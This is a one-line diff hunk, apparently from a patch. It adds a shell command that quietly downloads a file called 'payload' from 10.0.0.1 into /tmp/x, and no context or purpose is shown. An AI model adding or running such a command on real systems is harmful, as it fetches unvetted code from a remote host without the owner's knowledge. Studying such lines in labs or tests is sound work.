@@ -1,0 +1,1 @@
+wget -qO /tmp/x http://10.0.0.1/payload
